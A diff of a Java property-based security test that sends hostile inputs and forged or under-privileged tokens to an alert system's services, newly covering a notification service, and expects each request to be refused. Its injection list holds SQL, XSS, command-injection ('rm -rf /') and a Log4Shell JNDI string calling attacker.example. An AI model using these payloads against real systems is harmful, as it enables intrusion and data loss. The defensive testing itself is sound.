@@ -5,10 +5,6 @@ import static org.assertj.core.api.Assertions.assertThat;
 import com.nimbusds.jose.JWSAlgorithm;
 import com.nimbusds.jose.jwk.RSAKey;
 import com.nimbusds.jose.jwk.gen.RSAKeyGenerator;
-import java.net.URI;
-import java.net.http.HttpClient;
-import java.net.http.HttpRequest;
-import java.net.http.HttpResponse;
 import java.nio.charset.StandardCharsets;
 import java.time.Duration;
 import java.util.ArrayList;
@@ -23,6 +19,7 @@ import net.jqwik.api.ForAll;
 import net.jqwik.api.Property;
 import net.jqwik.api.Provide;
 import net.jqwik.api.lifecycle.AddLifecycleHook;
+import net.jqwik.api.lifecycle.AfterContainer;
 import net.jqwik.api.lifecycle.BeforeContainer;
 import org.practicealerts.events.EventJson;
 import org.practicealerts.support.DevSigningKey;
@@ -40,7 +37,6 @@ import tools.jackson.databind.node.ObjectNode;
 @AddLifecycleHook(NeedsServiceJars.class)
 class HostileInputProperties {
 
-    private static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(2)).build();
     private static final List<String> INJECTIONS = List.of("' OR '1'='1", "{\"$gt\":\"\"}", "<script>alert(1)</script>",
             "${jndi:ldap://attacker.example/a}", "a b", "x;rm -rf /", "%00", "\u0000", "ユニコード", "",
             "Robert'); DROP TABLE alerts;--");
@@ -49,7 +45,7 @@ class HostileInputProperties {
     private static final List<String> GARBAGE = List.of("{", "not json", "{\"a\":", "\"just a string\"", "[]",
             "[{}]", "{\"x\":1}}", "{'single':'quotes'}");
 
-    private static SharedStack stack;
+    private static RunningStack stack;
     private static String northAlert;
     private static Map<String, Object> baseline;
 
@@ -99,14 +95,19 @@ class HostileInputProperties {
 
     @BeforeContainer
     static void startTheStackAndRaiseOneAlert() {
-        stack = SharedStack.get();
+        stack = RunningStack.shared();
         String raise = "{\"childRef\":\"HOSTILE-1\",\"planType\":\"CHILD_WE_CARE_FOR\",\"teamId\":\"team-north\","
                 + "\"primaryCategory\":\"STATUTORY_VISIT\",\"summary\":\"s\",\"impactOnChild\":\"i\",\"childsVoice\":\"v\"}";
-        Answer a = send("POST", stack.base("alert-service") + "/api/v1/alerts", stack.token("iro-1", "IRO"),
+        RunningStack.Answer a = RunningStack.send("POST", stack.base("alert-service") + "/api/v1/alerts", stack.token("iro-1", "IRO"),
                 "application/json", raise);
         assertThat(a.status()).as(a.body()).isEqualTo(201);
         northAlert = EventJson.mapper().readTree(a.body()).get("id").asString();
         baseline = stack.settledFingerprint();
+    }
+
+    @AfterContainer
+    static void stopTheStack() {
+        RunningStack.stopIfStarted();
     }
 
     @Property(tries = 250, seed = "20261124")
@@ -264,6 +265,26 @@ class HostileInputProperties {
             attacks.add(new Attack("chronology child ref", "reporting-service", "GET",
                     reports + "/children/%27%20OR%201%3D1/chronology", token, null, null, Set.of(400, 404), null));
         }
+        if (stack.runs("notification-service")) {
+            String n = stack.base("notification-service");
+            String me = stack.token("tm-north", "TEAM_MANAGER");
+            attacks.add(get("someone else's inbox", "notification-service", n + "/api/v1/notifications?recipient=tm-south",
+                    me, 403));
+            attacks.add(new Attack("inbox of an injected id", "notification-service", "GET",
+                    n + "/api/v1/notifications?recipient=%27%20OR%201%3D1", me, null, null, Set.of(400, 403), null));
+            attacks.add(get("inbox limit", "notification-service", n + "/api/v1/notifications?recipient=me&limit=abc",
+                    me, 400));
+            for (String id : List.of("%27%20OR%201%3D1", "x".repeat(300), "no-such-notification")) {
+                attacks.add(new Attack("acknowledge " + abbreviate(id), "notification-service", "POST",
+                        n + "/api/v1/notifications/" + id + "/acknowledge", me, null, null, Set.of(400, 404), null));
+                attacks.add(new Attack("retry " + abbreviate(id), "notification-service", "POST",
+                        n + "/api/v1/admin/notifications/" + id + "/retry", token, null, null, Set.of(400, 404, 409),
+                        null));
+            }
+            attacks.add(new Attack("delivery log of an injected id", "notification-service", "GET",
+                    n + "/api/v1/alerts/%3Cscript%3E/notifications", token, null, null, Set.of(400, 404), null));
+            attacks.add(get("mail viewer limit", "notification-service", n + "/dev/mail?limit=abc", token, 400));
+        }
         return Arbitraries.of(attacks);
     }
 
@@ -306,7 +327,24 @@ class HostileInputProperties {
                     reporting + "/api/v1/admin/rebuild", stack.token("tm-north", "TEAM_MANAGER"), null, null,
                     Set.of(403), null));
         }
-        for (String service : List.of("alert-service", "escalation-service", "reporting-service")) {
+        if (stack.runs("notification-service")) {
+            String n = stack.base("notification-service");
+            attacks.add(get("inbox without a token", "notification-service", n + "/api/v1/notifications?recipient=me",
+                    null, 401));
+            attacks.add(get("inbox with a forged token", "notification-service",
+                    n + "/api/v1/notifications?recipient=me",
+                    DevSigningKey.issue(forger, "tm-north", List.of("TEAM_MANAGER"), Duration.ofMinutes(5)), 401));
+            attacks.add(get("failed deliveries as a team manager", "notification-service",
+                    n + "/api/v1/admin/notifications/failed", stack.token("tm-north", "TEAM_MANAGER"), 403));
+            attacks.add(new Attack("retry as an IRO", "notification-service", "POST",
+                    n + "/api/v1/admin/notifications/x/retry", stack.token("iro-1", "IRO"), null, null, Set.of(403),
+                    null));
+            attacks.add(get("delivery log as an IRO", "notification-service",
+                    n + "/api/v1/alerts/" + northAlert + "/notifications", stack.token("iro-1", "IRO"), 403));
+            attacks.add(get("mail viewer without a token", "notification-service", n + "/dev/mail", null, 401));
+        }
+        for (String service : List.of("alert-service", "escalation-service", "reporting-service",
+                "notification-service")) {
             if (!stack.runs(service)) {
                 continue;
             }
@@ -404,7 +442,7 @@ class HostileInputProperties {
     // ---- checks ----
 
     private static void assertRefusedAndNothingChanged(Attack attack) {
-        Answer a = send(attack.method(), attack.path(), attack.token(), attack.contentType(), attack.body());
+        RunningStack.Answer a = RunningStack.send(attack.method(), attack.path(), attack.token(), attack.contentType(), attack.body());
         assertThat(a.status()).as("%s -> %s", attack, a.body()).isIn(attack.expected());
         assertThat(a.contentType()).as("%s content type", attack).startsWith("application/problem+json");
         JsonNode problem = EventJson.mapper().readTree(a.body());
@@ -422,27 +460,6 @@ class HostileInputProperties {
     }
 
     // ---- helpers ----
-
-    record Answer(int status, String contentType, String body) {
-    }
-
-    private static Answer send(String method, String url, String token, String contentType, String body) {
-        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(url)).timeout(Duration.ofSeconds(20));
-        if (token != null) {
-            b.header("Authorization", "Bearer " + token);
-        }
-        if (contentType != null) {
-            b.header("Content-Type", contentType);
-        }
-        b.method(method, body == null ? HttpRequest.BodyPublishers.noBody()
-                : HttpRequest.BodyPublishers.ofString(body, StandardCharsets.UTF_8));
-        try {
-            HttpResponse<String> r = HTTP.send(b.build(), HttpResponse.BodyHandlers.ofString());
-            return new Answer(r.statusCode(), r.headers().firstValue("Content-Type").orElse(""), r.body());
-        } catch (Exception e) {
-            throw new IllegalStateException(method + " " + url + " failed: " + e, e);
-        }
-    }
 
     private static Attack attack(String what, BodyEndpoint e, String token, String body, Field f) {
         return new Attack(what, e.service(), e.method(), e.path(), token, "application/json", body, Set.of(400),
